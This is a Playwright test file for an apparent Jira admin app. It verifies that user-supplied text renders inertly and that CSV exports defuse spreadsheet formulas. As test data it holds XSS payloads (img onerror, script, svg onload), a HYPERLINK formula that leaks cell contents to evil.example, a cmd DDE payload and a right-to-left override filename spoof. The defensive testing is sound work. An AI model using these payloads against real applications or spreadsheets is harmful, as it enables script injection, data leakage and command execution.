/** What people and Jira write is shown as text: as markup nothing of it runs, in a spreadsheet nothing of it is a formula. */
import { readFileSync } from 'node:fs';
import { parse } from 'papaparse';
import type { FrameLocator, Page, Route } from 'playwright-core';
import type { SettingsReport } from '../../src/contract/api';
import type { InputRow, ListReport } from '../../src/contract/lists';
import type { RealityReport } from '../../src/contract/reality';
import { afterChange, ask, INVITED } from './reality-story';
import { raiseStage } from './raised-stage';
import { addressField, app } from './stage';

const HIT = 'window.top.hit=1;window.hit=1';
const MARKUP = `"><img src=x onerror="${HIT}"><script>${HIT}</script>`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const OVERRIDE = 'invoice\u202Egnp.exe';
/** As long as the name of a list may be. */
const NAME = MARKUP.padEnd(120, 'w').slice(0, 120);
const LONG = 'w'.repeat(110);

/** One for each way in which a spreadsheet begins a formula, wide forms and dropped white space among them. */
const CELLS = [
  FORMULA,
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  MARKUP,
  '<svg/onload=window.top.hit=1>@acme.com',
  `${OVERRIDE}@acme.com`,
  `${LONG}@acme.com`,
];

const stage = raiseStage();
let list: ListReport;

beforeAll(async () => {
  await afterChange(stage, { site: { internal: false }, plan: 'FREE' }, INVITED);
  await record(MARKUP);
  await record(OVERRIDE);
  await guard(MARKUP);
  await explain();
  list = await makeList(NAME, CELLS);
  await makeList(OVERRIDE, ['jo@acme.com']);
  stage.complaints.length = 0;
});

async function record(comment: string): Promise<void> {
  const { record: now } = await ask<SettingsReport>(stage, 'settings/read');
  const outgoingMail = now?.file.site?.outgoingMail !== true;
  const file = { ...now?.file, site: { ...now?.file.site, outgoingMail } };
  await ask(stage, 'settings/save', { file, basedOn: now?.revision, comment });
}

async function guard(name: string): Promise<void> {
  const rules = [{ name, who: { domain: 'one.example' }, never: ['customer-invited'] }];
  await ask(stage, 'guardrails/save', { file: { format: 'invite-check/guardrails@1', rules } });
}

async function explain(): Promise<void> {
  const { seen, drift } = await ask<RealityReport>(stage, 'reality/read');
  const concerns = [
    ...seen.slice(0, 1).map(({ domain, made }) => `seen ${domain} ${made}`),
    ...drift.changes.slice(0, 1).map(({ id }) => `drift ${id}`),
  ];
  const explained = concerns.map((concern) => ({ concern, reason: MARKUP }));
  await ask(stage, 'reality/explain', { explained });
}

async function makeList(name: string, addresses: readonly string[]): Promise<ListReport> {
  const wanted = { name, source: 'addresses', projectId: '10001' };
  const { id } = await ask<ListReport>(stage, 'lists/create', wanted);
  const rows = addresses.map((text, at): InputRow => [at + 1, text]);
  await ask(stage, 'lists/fill', { id, chunk: 0, rows });
  await ask(stage, 'lists/start', { id, rows: rows.length, chunks: 1 });
  for (;;) {
    const report = await ask<ListReport>(stage, 'lists/read', { id });
    if (report.state === 'done') return report;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** What Jira, or a colleague, could have written. */
const WRITTEN = new Set([
  'name',
  'displayName',
  'authorName',
  'senderAddress',
  'senderWarning',
  'comment',
  'from',
  'to',
]);

/** Every text that comes from elsewhere is hostile; codes and dates stay. */
function poison(value: unknown, field = ''): unknown {
  if (typeof value === 'string') return WRITTEN.has(field) ? MARKUP : value;
  if (Array.isArray(value)) return value.map((each) => poison(each, field));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, poison(each, key)]));
}

async function open(place: string, poisoned: readonly string[] = []): Promise<Page> {
  const page = await stage.open('page=mailbox');
  await page.route('**/api/invoke', async (route: Route) => {
    const { functionKey } = route.request().postDataJSON() as { readonly functionKey: string };
    if (!poisoned.includes(functionKey)) return route.fallback();
    const response = await route.fetch();
    return route.fulfill({ response, json: poison(await response.json()) });
  });
  await page.goto(`${stage.url}/?${place}`);
  return page;
}

interface Opened {
  readonly page: Page;
  readonly inside: FrameLocator;
}

async function openPart(path: string, poisoned?: readonly string[]): Promise<Opened> {
  const at = `page=admin&user=site-admin&path=${encodeURIComponent(path)}`;
  const page = await open(at, poisoned);
  return { page, inside: page.frameLocator('iframe.custom-ui') };
}

/** Nothing ran, in no frame, and nothing of it became an element; the policy was not even asked. */
async function nothingRan(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    const found = await frame.evaluate(() => ({
      hit: 'hit' in window,
      elements: document.querySelectorAll('img[src="x"], [onerror], [onload], script:not([src])')
        .length,
    }));
    expect(found).toEqual({ hit: false, elements: 0 });
  }
  expect(stage.complaints).toEqual([]);
}

test('the gate is awake: markup that does become elements is seen', async () => {
  const page = await open('page=project&project=HELP');
  await addressField(page).waitFor();
  await page.evaluate((markup) => {
    document.body.insertAdjacentHTML('beforeend', markup);
  }, MARKUP);
  await page.waitForFunction(() => 'hit' in window);
  await expect(nothingRan(page)).rejects.toThrow();
  stage.complaints.length = 0;
});

test('project page: addresses, the project and its sender are text', async () => {
  const page = await open('page=project&project=HELP', ['page/read']);
  for (const text of [`<img/src=x/onerror=${HIT}>@acme.com`, `"${MARKUP}"@acme.com`, FORMULA]) {
    await addressField(page).fill(text);
    await page.keyboard.press('Enter');
    await app(page).getByRole('heading').nth(1).waitFor();
    await nothingRan(page);
  }
  await addressField(page).fill(`${OVERRIDE}@acme.com`);
  await page.keyboard.press('Enter');
  await app(page).getByText('@acme.com').first().waitFor();
  expect(await app(page).innerText()).toContain('onerror');
  await nothingRan(page);
});

const PARTS = [
  { path: '/history', shows: MARKUP, poisoned: [] },
  { path: '/history', shows: MARKUP, poisoned: ['settings/history', 'settings/read'] },
  { path: '/guardrails', shows: MARKUP, poisoned: [] },
  { path: '/findings', shows: undefined, poisoned: ['projects/list', 'audit/read'] },
  { path: '/lists', shows: NAME, poisoned: [] },
  { path: '/reality', shows: MARKUP, poisoned: ['reality/read'] },
  { path: '/record', shows: MARKUP, poisoned: ['projects/list', 'settings/read'] },
  { path: '/map', shows: undefined, poisoned: ['projects/list', 'settings/read'] },
  { path: '/what-if?change=internal+off', shows: undefined, poisoned: ['projects/list'] },
];

test.each(PARTS)(
  'admin page, $path (from elsewhere: $poisoned): it is there, as text',
  async ({ path, shows, poisoned }) => {
    const { page, inside } = await openPart(path, poisoned);
    await inside.getByRole('tab', { selected: true }).waitFor();
    if (shows === undefined) await inside.getByRole('button', { name: 'Export' }).waitFor();
    else await inside.getByText(shows).first().waitFor({ state: 'attached' });
    await nothingRan(page);
    // What turns round the text beside it was left out when it was saved.
    expect(await inside.locator('body').innerText()).not.toContain('\u202E');
  },
);

test('admin page, a finding: the reason of muting it is text', async () => {
  const { page, inside } = await openPart('/findings');
  await inside.locator('h3 button').first().click();
  await inside.getByRole('button', { name: 'Mute', exact: true }).click();
  await inside.getByRole('textbox', { name: /Why is this all right/ }).fill(MARKUP);
  await inside.getByRole('button', { name: 'Mute finding' }).click();
  await inside.getByText(/^Muted: /).waitFor();
  await inside.locator('button[aria-expanded=false]').last().click();
  await inside.getByText(MARKUP).first().waitFor();
  await nothingRan(page);
});

async function saved({ page, inside }: Opened, item: RegExp): Promise<string> {
  await inside.getByRole('button', { name: 'Export' }).first().click();
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    inside.getByRole('menuitem', { name: item }).click(),
  ]);
  return readFileSync(await file.path(), 'utf8');
}

test('a list: every row is text on the page, no cell of its CSV is a formula, its JSON is what was given', async () => {
  const opened = await openPart(`/lists?list=${encodeURIComponent(list.id)}`);
  await opened.inside.getByRole('table', { name: 'Results' }).waitFor();
  await opened.inside.getByText(MARKUP).first().waitFor();
  await nothingRan(opened.page);

  const csv = await saved(opened, /Download CSV/);
  const cells = parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]|^\s*[=+\-@＝]/.test(cell))).toEqual([]);
  expect(cells).toContain(`'${FORMULA}`);
  const json = JSON.parse(await saved(opened, /Download JSON/)) as {
    readonly rows: readonly object[];
  };
  expect(JSON.stringify(json.rows)).toContain(JSON.stringify(FORMULA));

  await opened.page
    .frames()
    .at(-1)
    ?.evaluate(() => {
      window.print = () => undefined;
    });
  await opened.inside.getByRole('button', { name: 'Export' }).first().click();
  await opened.inside.getByRole('menuitem', { name: /^Print/ }).click();
  await opened.inside
    .locator('.print-sheet')
    .getByText(FORMULA)
    .first()
    .waitFor({ state: 'attached' });
  await nothingRan(opened.page);
});
